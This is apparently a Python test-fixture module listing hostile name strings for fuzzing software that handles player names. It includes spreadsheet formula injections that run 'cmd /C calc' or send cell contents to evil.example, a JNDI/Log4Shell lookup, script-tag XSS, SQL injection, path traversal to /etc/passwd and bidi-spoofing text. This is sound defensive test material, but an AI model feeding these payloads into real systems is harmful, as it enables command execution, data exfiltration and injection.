"""Names that somebody could type to make trouble: of every kind that screens, files and programs meet."""

from typing import Final

FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Ann")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "'=1+1",
    '"=1+1"',
    "=",
    "-",
    '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
MARK_UP: Final = (
    "<b>Ann</b>",
    "<img src=http://evil.example/x.png>",
    "<script>alert(1)</script>",
    '<a href="http://evil.example">Ann</a>',
    "<r><t>Ann</t></r>",
    "</t></si><si><t>",
    "]]><!--",
    "&lt;b&gt; &amp; &#65;",
    "<para fontSize=99><onDraw name=x/></para>",
    "<font color=red size=40>Ann",
    "_x0041_nn",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {0} %s %n %(name)s",
    "\\u0041\\n\\x41",
    "http://evil.example/",
    "mailto:ann@evil.example",
    "file:///etc/passwd",
)
SQL: Final = (
    "Robert'); DROP TABLE players;--",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "%_%",
)  # fmt: skip
SCRIPTS: Final = (
    "محمد علي",
    "דוד כהן",
    "Ann אבי 42",
    "علي 123 (x)",
    "\u202eevil\u202c",
    "\u2067abc\u2069 \u2066def",
    "李小龍",
    "さくら",
    "김민준",
    "Ольга Иванова",
    "Ελένη",
    "Zoë Müller-Łukasz",
    "e\u0301a\u0308",
    "สมชาย",
    "क्षत्रिय",
    "Z\u0351\u036b\u0343a\u0315\u0321l\u0334\u0322g\u0328\u0310o\u0489",
    "ﷺ",
)
EMOJI: Final = ("🂡", "👨‍👩‍👧‍👦 Miller", "🇩🇪", "A\u20e3", "😀" * 40)
LONG: Final = ("x" * 10_000, "wide W " * 1_500, "é" * 10_000)
PATHS: Final = (
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "/",
    ".",
    "..",
    ".hidden",
    "C:\\Windows",
    "\\\\server\\share",
    "CON",
    "nul.txt",
    "com1",
    "LPT9.pdf",
    "name.",
    "name ",
    'a<b>c:d"e|f?g*h',
    "-rf",
    "~root",
    "file.exe:stream",
)
CODES: Final = (
    "a\0b",
    "\x1b[31mred\x1b[0m",
    "\x07bell\x08",
    "line\nbreak",
    "line\r\nbreak",
    "line\u2028break",
    "\x7f\x85\x9f",
    "\ufffe\uffff",
    "tab\there",
)
CSV_BREAKERS: Final = ('a,b;c\td', 'quote " quote', '"', '""', ',",', '"\r\n"', "a\nb,c\"d\"")  # fmt: skip
BLANKS: Final = ("\u200d", "\u2800", "\u00ad", "  two  blanks  ")

HOSTILE_NAMES: Final = (
    *FORMULAS, *MARK_UP, *SQL, *SCRIPTS, *EMOJI, *LONG, *PATHS, *CODES, *CSV_BREAKERS, *BLANKS,
)  # fmt: skip
